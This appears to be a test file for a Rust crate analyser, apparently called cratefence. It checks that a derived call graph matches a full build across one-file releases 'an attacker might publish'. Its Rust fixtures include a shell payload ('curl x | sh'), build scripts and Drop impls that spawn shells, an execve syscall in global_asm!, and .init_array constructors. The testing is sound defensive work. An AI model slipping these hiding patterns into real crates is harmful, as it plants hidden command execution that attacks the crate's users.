import { spawnSync } from 'node:child_process';
import { existsSync, mkdirSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { rulesFor } from '../src/index.js';
import { DependencyCaps } from '../src/analysis/deps.js';
import { shippedIndex } from '../src/analysis/summary-index.js';
import { treeFromFiles, type CrateTree } from '../src/source/index.js';
import { tempDir } from './helpers/tmp.js';
import { derivedAndFull, dumpGraph } from './helpers/graph-pair.js';
import { corpusCases, mutationBase, seeded } from './helpers/corpus-mutations.js';

// Review of the derived graph (src/analysis/graph-reuse.ts) and the diff's kept-file shortcut: release
// pairs that change one file the way a payload would (a new `use`, glob, re-export, macro, extern
// block, method of a common name, duplicate key, manifest change...) must give a derived graph equal,
// map order included, to a full build, and the same report as the build before the change.

const rules = rulesFor();
const deps = new DependencyCaps(shippedIndex(rules.dir), rules.catalogue);
const ROOT = path.join(import.meta.dirname, '..');
const CLI = path.join(ROOT, 'bin', 'cratefence.js');
// A build of the code from before the derived graph (a451600), named by CRATEFENCE_BEFORE_BIN: the
// reports must not change. Without it the graphs are still compared with full builds.
const BEFORE = process.env.CRATEFENCE_BEFORE_BIN ?? '';
const haveBefore = BEFORE !== '' && existsSync(BEFORE) && existsSync(path.join(ROOT, 'dist', 'index.js'));
if (!haveBefore) console.log(`graph-reuse-review: CRATEFENCE_BEFORE_BIN ${BEFORE === '' ? 'is not set' : `names no file (${BEFORE})`}: reports are not compared with the earlier build, graphs still are with full builds`);

type Files = Record<string, string>;

const dump = dumpGraph;

function build(oldFiles: Files | CrateTree, newFiles: Files | CrateTree, withEdges = true) {
  const oldTree = 'files' in oldFiles && oldFiles.files instanceof Map ? (oldFiles as CrateTree) : treeFromFiles(oldFiles as Files, 'old');
  const newTree = 'files' in newFiles && newFiles.files instanceof Map ? (newFiles as CrateTree) : treeFromFiles(newFiles as Files, 'new');
  return derivedAndFull(oldTree, newTree, rules.catalogue, { deps, withEdges });
}

function report(bin: string, oldDir: string, newDir: string): string {
  const r = spawnSync(process.execPath, [bin, 'diff', oldDir, newDir, '--format', 'json'], { encoding: 'utf8' });
  if (!r.stdout) throw new Error(`${bin}: exit ${r.status}: ${r.stderr}`);
  const j = JSON.parse(r.stdout) as Record<string, unknown>;
  delete j.timings;
  return JSON.stringify(j, null, 1);
}

function writeTree(dir: string, files: Files): void {
  for (const [p, c] of Object.entries(files)) {
    mkdirSync(path.dirname(path.join(dir, p)), { recursive: true });
    writeFileSync(path.join(dir, p), c);
  }
}

const TOML = '[package]\nname = "g"\nversion = "0.1.0"\nedition = "2021"\n\n[dependencies]\nureq = "2"\ntinyfrob = "1"\n';
const TOML_NEW = TOML.replace('0.1.0', '0.1.1');
const LIB = 'pub mod helpers;\npub mod user;\npub mod extra;\n';
const HELPERS = `pub fn spawn_it() { std::process::Command::new("ls").status().ok(); }
pub fn quiet() {}
pub fn register(_f: fn()) {}
`;
// The unchanged file: its sites name what the changed files below add, remove or redefine.
const USER = `use crate::helpers::*;
use crate::extra;
pub fn run() { spawn_it(); quiet(); crate::helpers::quiet(); }
pub fn values() { let handler = 1; let _ = handler; register(on_event); }
pub fn cmd() { let _ = std::process::Command::new("ls").spawn(); }
pub fn via() { let _ = extra::Job::new("x"); let _ = crate::extra::Command::new("sh"); let _ = crate::extra::make(); }
pub fn mac() { helper_mac!(process, Command); }
pub fn w(x: &crate::extra::Widget) { x.launch(); x.fetch(); }
pub fn net() { let _ = ureq::get("http://x").call(); tinyfrob::frob(); }
pub unsafe fn ff(p: *const u8) { system(p); }
pub fn rec(n: u32) -> u32 { if n == 0 { 0 } else { rec(n - 1) } }
`;
const EXTRA = 'pub fn e() { let _ = 2; }\n';
const base: Files = { 'Cargo.toml': TOML, 'src/lib.rs': LIB, 'src/helpers.rs': HELPERS, 'src/user.rs': USER, 'src/extra.rs': EXTRA };

interface Case {
  name: string;
  old?: Files;
  new: Files;
  /** An extra check on the full build or the diff (what the case is about). */
  check?: (r: ReturnType<typeof build>) => void;
}

const spawnBody = 'std::process::Command::new("sh").arg("-c").arg("curl x | sh").spawn().ok();';
const cases: Case[] = [
  { name: 'a changed file adds a glob import of a local module', new: { 'src/extra.rs': `use crate::helpers::*;\npub fn e() { spawn_it(); }\n` } },
  { name: 'a changed file adds `pub use std::process::*` that an unchanged file reaches through', new: { 'src/extra.rs': `pub use std::process::*;\n${EXTRA}` }, check: ({ full }) => expect(JSON.stringify(full.caps.get('crate::user::via') ?? [])).toMatch(/process/) },
  { name: 'a changed file re-exports another type under the same alias', old: { 'src/extra.rs': 'pub use std::string::String as Job;\n' }, new: { 'src/extra.rs': 'pub use std::process::Command as Job;\n' } },
  { name: 'a changed file adds a private `use` only it reads', old: { 'src/extra.rs': `use std::string::String as Cmd;\npub fn e() { let _ = Cmd::new(); }\n` }, new: { 'src/extra.rs': `use std::process::Command as Cmd;\npub fn e() { let _ = Cmd::new("x"); }\n` } },
  { name: 'a changed file adds a macro_rules! an unchanged file calls', new: { 'src/extra.rs': `#[macro_export]\nmacro_rules! helper_mac { ($a:ident, $b:ident) => { let _ = std::$a::$b::new("x"); } }\n${EXTRA}` } },
  { name: 'a changed file rewrites the body of a macro an unchanged file calls', old: { 'src/extra.rs': `macro_rules! helper_mac { ($a:ident, $b:ident) => { let _ = 1; } }\n` }, new: { 'src/extra.rs': `macro_rules! helper_mac { ($a:ident, $b:ident) => { let _ = std::$a::$b::new("x"); } }\n` } },
  { name: 'a changed file adds an inline module named like a dependency', new: { 'src/extra.rs': `pub mod tinyfrob { pub fn frob() { ${spawnBody} } }\n${EXTRA}` }, check: ({ full }) => expect(full.edges.get('crate::user::net')?.map((e) => e.to)).toContain('crate::extra::tinyfrob::frob') },
  { name: 'a changed file adds a `mod` declaration and its file', new: { 'src/extra.rs': `pub mod deep;\n${EXTRA}`, 'src/extra/deep.rs': `pub fn quiet() { ${spawnBody} }\n` } },
  { name: 'a changed file declares `system` in an extern block', new: { 'src/extra.rs': `extern "C" { pub fn system(c: *const u8) -> i32; }\n${EXTRA}` }, check: ({ full }) => expect(full.caps.get('crate::user::ff')?.some((u) => u.foreign !== undefined)).toBe(true) },
  { name: 'a changed file gives a foreign function an unchanged file names the link_name system', new: { 'src/extra.rs': `extern "C" { #[link_name = "system"] pub fn on_event(); }\n${EXTRA}` } },
  { name: "a changed file changes a foreign declaration's link_name", old: { 'src/extra.rs': `extern "C" { #[link_name = "getpid"] pub fn on_event(); }\n` }, new: { 'src/extra.rs': `extern "C" { #[link_name = "system"] pub fn on_event(); }\n` } },
  { name: 'a changed file moves a foreign declaration to another line', old: { 'src/extra.rs': `extern "C" { pub fn system(c: *const u8) -> i32; }\n` }, new: { 'src/extra.rs': `\n\nextern "C" { pub fn system(c: *const u8) -> i32; }\n` } },
  { name: 'an unchanged file has global_asm! labels, a changed file declares one', old: { 'src/asm.rs': 'core::arch::global_asm!(".globl go_sys", "go_sys:", "mov $59, %eax", "syscall", "ret");\n', 'src/lib.rs': `${LIB}pub mod asm;\n` }, new: { 'src/asm.rs': 'core::arch::global_asm!(".globl go_sys", "go_sys:", "mov $59, %eax", "syscall", "ret");\n', 'src/lib.rs': `${LIB}pub mod asm;\n`, 'src/extra.rs': `extern "C" { pub fn go_sys(); }\npub fn e() { unsafe { go_sys() } }\n` } },
  { name: 'a changed file adds a Drop impl', new: { 'src/extra.rs': `pub struct W;\nimpl Drop for W { fn drop(&mut self) { ${spawnBody} } }\n` }, check: ({ full }) => expect([...full.entries.values()]).toContain('implicit') },
  { name: 'a changed file adds a method an unchanged file calls by name', new: { 'src/extra.rs': `pub struct Widget;\nimpl Widget { pub fn launch(&self) { ${spawnBody} } }\n` }, check: ({ full }) => expect(full.edges.get('crate::user::w')?.map((e) => e.to)).toContain('crate::extra::Widget::launch') },
  { name: "a changed file adds a method named like a dependency's (`call`)", new: { 'src/extra.rs': `pub struct R;\nimpl R { pub fn call(&self) {} }\n` } },
  { name: 'a changed file adds a method named like a std one (`spawn`)', new: { 'src/extra.rs': `pub struct R;\nimpl R { pub fn spawn(&self) { ${spawnBody} } }\n` } },
  { name: 'a changed file adds a function an unchanged file calls through a glob', new: { 'src/extra.rs': `pub fn quiet() { ${spawnBody} }\n` } },
  { name: 'a changed file adds a function named like a local variable', new: { 'src/extra.rs': `pub fn handler() { ${spawnBody} }\n` } },
  { name: 'a changed file adds a function an unchanged file names as a value', new: { 'src/extra.rs': `pub fn on_event() { ${spawnBody} }\n` } },
  { name: 'a const becomes a function of the same name', old: { 'src/extra.rs': 'pub const on_event: u8 = 0;\n' }, new: { 'src/extra.rs': `pub fn on_event() { ${spawnBody} }\n` } },
  { name: 'a function becomes a static of the same name', old: { 'src/extra.rs': 'pub fn make() {}\n' }, new: { 'src/extra.rs': 'pub static make: u8 = 1;\n' } },
  { name: 'a free function moves into an impl', old: { 'src/extra.rs': 'pub fn make() {}\n' }, new: { 'src/extra.rs': `pub struct Z;\nimpl Z { pub fn make() { ${spawnBody} } }\n` } },
  { name: 'a changed file reorders its functions', old: { 'src/extra.rs': 'pub fn a() {}\npub fn quiet() {}\npub fn make() {}\n' }, new: { 'src/extra.rs': 'pub fn make() {}\npub fn quiet() {}\npub fn a() {}\n' } },
  { name: 'two impl blocks define the same method', old: { 'src/extra.rs': 'pub struct Widget;\nimpl Widget { pub fn launch(&self) {} }\n' }, new: { 'src/extra.rs': `pub struct Widget;\nimpl Widget { pub fn launch(&self) {} }\nimpl Widget { pub fn launch(&self) { ${spawnBody} } }\n` } },
  { name: 'a cfg-gated duplicate of a function is added', old: { 'src/extra.rs': '#[cfg(unix)]\npub fn make() {}\n' }, new: { 'src/extra.rs': `#[cfg(unix)]\npub fn make() {}\n#[cfg(windows)]\npub fn make() { ${spawnBody} }\n` } },
  { name: 'cfg-gated duplicates swap places', old: { 'src/extra.rs': `#[cfg(unix)]\npub fn make() {}\n#[cfg(windows)]\npub fn make() { ${spawnBody} }\n` }, new: { 'src/extra.rs': `#[cfg(windows)]\npub fn make() { ${spawnBody} }\n#[cfg(unix)]\npub fn make() {}\n` } },
  { name: 'a trait gets a default method named like one an unchanged file calls', new: { 'src/extra.rs': `pub trait T { fn fetch(&self) { ${spawnBody} } }\n` } },
  { name: 'a ctor static is added', new: { 'src/extra.rs': `${EXTRA}#[used]\n#[link_section = ".init_array"]\npub static INIT: fn() = e;\n` }, check: ({ full }) => expect([...full.entries.values()]).toContain('ctor') },
  { name: 'a changed file adds a function that shifts an included file\'s key to #2', old: { 'src/extra.rs': `include!("more.rs");\n${EXTRA}`, 'src/more.rs': 'pub fn make() {}\n' }, new: { 'src/extra.rs': `include!("more.rs");\npub fn make() { ${spawnBody} }\n`, 'src/more.rs': 'pub fn make() {}\n' } },
  { name: 'an included non-.rs file changes, its includer does not', old: { 'src/extra.rs': `include!("payload.dat");\n`, 'src/payload.dat': 'pub fn make() {}\n' }, new: { 'src/extra.rs': `include!("payload.dat");\n`, 'src/payload.dat': `pub fn make() { ${spawnBody} }\n` } },
  { name: 'an unchanged file is included from a new place (module changes)', old: { 'src/more.rs': 'pub fn quiet() {}\n' }, new: { 'src/extra.rs': `include!("more.rs");\n${EXTRA}`, 'src/more.rs': 'pub fn quiet() {}\n' } },
  { name: 'an unchanged file moves module through #[path]', new: { 'src/lib.rs': 'pub mod helpers;\npub mod user;\n#[path = "helpers.rs"]\npub mod extra;\n' } },
  { name: 'a module becomes cfg(test)', new: { 'src/lib.rs': 'pub mod helpers;\npub mod user;\n#[cfg(test)]\npub mod extra;\n' }, old: { 'src/extra.rs': 'pub fn make() { let _ = 1; }\n' } },
  { name: 'the manifest adds a dependency, no .rs change', new: { 'Cargo.toml': `${TOML_NEW}duct = "0.13"\n` } },
  { name: 'the manifest renames a dependency with package =', old: { 'src/extra.rs': 'pub fn make() { let _ = http::get("x"); }\n' }, new: { 'Cargo.toml': TOML_NEW.replace('ureq = "2"', 'http = { package = "ureq", version = "2" }'), 'src/extra.rs': 'pub fn make() { let _ = http::get("x"); }\n' } },
  { name: 'the manifest changes the edition and features only', new: { 'Cargo.toml': `${TOML_NEW.replace('2021', '2018')}\n[features]\ndefault = ["x"]\nx = []\n` } },
  { name: 'the manifest names a build script that was a plain file', old: { 'gen.rs': `fn main() { ${spawnBody} }\n` }, new: { 'Cargo.toml': TOML_NEW.replace('edition', 'build = "gen.rs"\nedition'), 'gen.rs': `fn main() { ${spawnBody} }\n` } },
  { name: 'the manifest makes the crate a proc-macro', new: { 'Cargo.toml': `${TOML_NEW}\n[lib]\nproc-macro = true\n` } },
  { name: 'the manifest moves the library root', old: { 'src/root.rs': LIB }, new: { 'Cargo.toml': `${TOML_NEW}\n[lib]\npath = "src/root.rs"\n`, 'src/root.rs': LIB } },
  { name: 'a changed build.rs runs a command', old: { 'build.rs': 'fn main() {}\n' }, new: { 'build.rs': `fn main() { ${spawnBody} }\n` } },
  { name: 'build.rs writes Rust the crate includes from OUT_DIR', old: { 'build.rs': 'fn main() {}\n' }, new: { 'build.rs': `fn main() { let out = std::env::var("OUT_DIR").unwrap(); std::fs::write(format!("{}/gen.rs", out), "pub fn quiet() { std::process::Command::new(\\"sh\\").spawn().ok(); }").unwrap(); }\n`, 'src/extra.rs': `include!(concat!(env!("OUT_DIR"), "/gen.rs"));\n${EXTRA}` } },
  { name: 'a changed file defines a function named like the recursive one', new: { 'src/extra.rs': `pub fn rec(_n: u32) -> u32 { ${spawnBody} 0 }\n` } },
  { name: 'a build script gains its main (entries change at the first path)', old: { 'build.rs': 'fn helper() {}\n' }, new: { 'build.rs': `fn helper() {}\nfn main() { ${spawnBody} }\n` } },
  { name: 'a file last in path order starts calling kept functions (callers order)', old: { 'src/zz.rs': 'pub fn z() {}\n', 'src/lib.rs': `${LIB}pub mod zz;\n` }, new: { 'src/zz.rs': 'pub fn z() { crate::helpers::spawn_it(); crate::helpers::quiet(); }\npub fn quiet() {}\n', 'src/lib.rs': `${LIB}pub mod zz;\n` } },
  { name: 'two changed files, first and last in path order', old: { 'src/zz.rs': 'pub fn z() {}\n', 'src/lib.rs': `${LIB}pub mod zz;\n` }, new: { 'src/extra.rs': `pub fn make() { ${spawnBody} }\n`, 'src/zz.rs': 'pub fn z() { crate::extra::make(); }\n', 'src/lib.rs': `${LIB}pub mod zz;\n` } },
  { name: 'a kept file re-exports what a changed file re-exports (a chain)', old: { 'src/reex.rs': 'pub use crate::extra::Job;\npub fn r() { let _ = crate::reex::Job::new("x"); }\n', 'src/lib.rs': `${LIB}pub mod reex;\n`, 'src/extra.rs': 'pub use std::string::String as Job;\n' }, new: { 'src/extra.rs': 'pub use std::process::Command as Job;\n' } },
  { name: 'a changed file adds a macro named like one a kept file defines', old: { 'src/macs.rs': 'macro_rules! helper_mac { ($a:ident, $b:ident) => { let _ = 1; } }\n', 'src/lib.rs': `${LIB}pub mod macs;\n` }, new: { 'src/extra.rs': `macro_rules! helper_mac { ($a:ident, $b:ident) => { let _ = std::$a::$b::new("x"); } }\n` } },
  { name: 'a changed file adds seven methods of one name (too many candidates)', new: { 'src/extra.rs': [1, 2, 3, 4, 5, 6, 7].map((i) => `pub struct S${i};\nimpl S${i} { pub fn launch(&self) { ${spawnBody} } }\n`).join('') } },
  { name: 'a changed file adds global_asm!', new: { 'src/extra.rs': `core::arch::global_asm!(".globl quiet", "quiet:", "mov $59, %eax", "syscall", "ret");\n${EXTRA}` } },
  { name: 'a changed file adds a method named `new` (ubiquitous)', new: { 'src/extra.rs': `pub struct Job;\nimpl Job { pub fn new(_s: &str) -> Self { ${spawnBody} Job } }\n` } },
  { name: "a foreign declaration's link_name changes while another stays (both releases declare some)", old: { 'src/extra.rs': 'extern "C" { pub fn system(c: *const u8) -> i32; #[link_name = "system"] pub fn on_event(); }\n' }, new: { 'src/extra.rs': 'extern "C" { pub fn system(c: *const u8) -> i32; #[link_name = "dlopen"] pub fn on_event(); }\n' } },
  { name: 'a changed included file adds a struct whose key a kept file\'s bare call then finds first', old: { 'src/kept.rs': 'use crate::helpers::*;\ninclude!("kept_more.rs");\npub fn k() { quiet(); }\n', 'src/kept_more.rs': 'pub fn other() {}\n', 'src/lib.rs': `${LIB}pub mod kept;\n` }, new: { 'src/kept_more.rs': 'pub fn other() {}\npub struct quiet;\n' } },
  { name: 'a changed included file removes a struct that hid a function from a kept file\'s bare call', old: { 'src/kept.rs': 'use crate::helpers::*;\ninclude!("kept_more.rs");\npub fn k() { quiet(); }\n', 'src/kept_more.rs': 'pub fn other() {}\npub struct quiet;\n', 'src/lib.rs': `${LIB}pub mod kept;\n` }, new: { 'src/kept_more.rs': 'pub fn other() {}\n' } },
  { name: 'a changed file removes a function a kept file calls under a `use … as` alias', old: { 'src/alias.rs': 'use crate::extra::make as mk;\npub fn a() { mk(); }\n', 'src/lib.rs': `${LIB}pub mod alias;\n`, 'src/extra.rs': `pub fn make() { ${spawnBody} }\n` }, new: { 'src/extra.rs': 'pub fn other() {}\n' } },
  { name: 'diff: an item is removed from a file whose other keys stay', old: { 'src/extra.rs': `${EXTRA}pub fn make() {}\n` }, new: { 'src/extra.rs': EXTRA }, check: ({ delta }) => expect(delta.items.filter((i) => i.status === 'removed').map((i) => i.key)).toContain('crate::extra::make') },
  { name: 'diff: an item moves to an unchanged-keys file', old: { 'src/extra.rs': `${EXTRA}pub fn make() { ${spawnBody} }\n`, 'src/helpers.rs': HELPERS }, new: { 'src/extra.rs': EXTRA, 'src/helpers.rs': `${HELPERS}pub fn make() { ${spawnBody} }\n` } },
  { name: 'diff: same keys in another order', old: { 'src/extra.rs': 'pub fn a() {}\npub fn make() {}\n' }, new: { 'src/extra.rs': `pub fn make() { ${spawnBody} }\npub fn a() {}\n` } },
  { name: 'diff: same keys, bodies changed', old: { 'src/extra.rs': 'pub fn make() {}\n' }, new: { 'src/extra.rs': `pub fn make() { ${spawnBody} }\n` } },
];

describe('derived graph review: one-file releases an attacker might publish', () => {
  for (const c of cases) {
    it(c.name, () => {
      const oldFiles = { ...base, ...c.old };
      const newFiles = { ...base, 'Cargo.toml': TOML_NEW, ...c.old, ...c.new };
      const r = build(oldFiles, newFiles);
      expect(dump(r.derived)).toBe(dump(r.full));
      c.check?.(r);
      if (process.env.REVIEW_LOG) console.log(`${c.name}: ${r.derived.shared ? "shared" : `${r.derived.copiedFiles} copied`}`);
      if (!haveBefore) return;
      const dir = tempDir('cf-review-');
      writeTree(path.join(dir, 'old'), oldFiles);
      writeTree(path.join(dir, 'new'), newFiles);
      expect(report(CLI, path.join(dir, 'old'), path.join(dir, 'new'))).toBe(report(BEFORE, path.join(dir, 'old'), path.join(dir, 'new')));
    }, 30_000);
  }
});

// Seeded mutations of the corpus: one to three snippets (a function, method, const, static, macro,
// foreign declaration, alias, glob, trait, cfg twins, call) named after names the crate already uses,
// appended to, prepended to, or replacing a function name in one file (sometimes a second file too);
// half the pairs the other way round (the snippet removed). Both with and without call edges.
const SP = 'std::process::Command::new("sh").spawn().ok();';
const SNIPPETS: Array<(n: string) => string> = [
  (n) => `pub fn ${n}() { ${SP} }\n`,
  (n) => `pub struct Zq;\nimpl Zq { pub fn ${n}(&self) { ${SP} } }\n`,
  (n) => `pub const ${n}: u8 = 1;\n`,
  (n) => `pub static ${n}: u8 = 1;\n`,
  (n) => `macro_rules! ${n} { ($a:ident, $b:ident) => { let _ = std::$a::$b::new("x"); } }\n`,
  (n) => `extern "C" { #[link_name = "system"] pub fn ${n}(c: *const u8) -> i32; }\n`,
  (n) => `pub use std::process::Command as ${n};\n`,
  () => 'pub use std::process::*;\n',
  (n) => `pub trait Tq { fn ${n}(&self) { ${SP} } }\n`,
  (n) => `#[cfg(windows)]\npub fn ${n}() { ${SP} }\n#[cfg(unix)]\npub fn ${n}() {}\n`,
  (n) => `pub type ${n} = std::process::Command;\n`,
  (n) => `pub fn helper_q() { ${n}(); crate::${n}(); self::${n}(); }\n`,
  (n) => `use crate::${n};\n`,
  () => 'use super::*;\n',
  (n) => `impl Drop for Zd { fn drop(&mut self) { ${n}(); } }\npub struct Zd;\n`,
];

describe('derived graph review: seeded one-file mutations of the corpus', () => {
  it('gives the same graph as a full build on 2000 mutated pairs', async () => {
    const { rnd, pick } = seeded(20261205);
    const dirs = corpusCases();
    let derivedPairs = 0;
    for (let n = 0; n < 2000; n++) {
      const c = pick(dirs);
      const base = await mutationBase(c);
      if (!base) continue;
      const { tree, rs, text, names } = base;
      const files: Record<string, string | Uint8Array> = Object.fromEntries(tree.files);
      const mutate = (p: string) => {
        let add = '';
        for (let k = 1 + Math.floor(rnd() * 3); k > 0; k--) add += pick(SNIPPETS)(pick(names));
        const orig = text(p);
        const mode = rnd();
        const fns = [...orig.matchAll(/fn\s+([A-Za-z_]\w*)/g)];
        if (mode < 0.4 || fns.length === 0) return `${orig}\n${add}`;
        if (mode < 0.7) return add + orig;
        const f = pick(fns);
        return `${orig.slice(0, f.index)}fn ${f[1]}_zz${orig.slice(f.index + f[0].length)}\n${add}`;
      };
      const target = pick(rs);
      files[target] = mutate(target);
      const second = pick(rs);
      if (rnd() < 0.3 && second !== target) files[second] = mutate(second);
      const mutated = treeFromFiles(files, 'mutated');
      const swap = rnd() < 0.5;
      const r = build(swap ? mutated : tree, swap ? tree : mutated, rnd() < 0.8);
      expect(dump(r.derived), `${c} ${target} #${n}`).toBe(dump(r.full));
      if (r.derived.copiedFiles > 0) derivedPairs++;
    }
    expect(derivedPairs).toBeGreaterThan(200);
  }, 120_000);
});
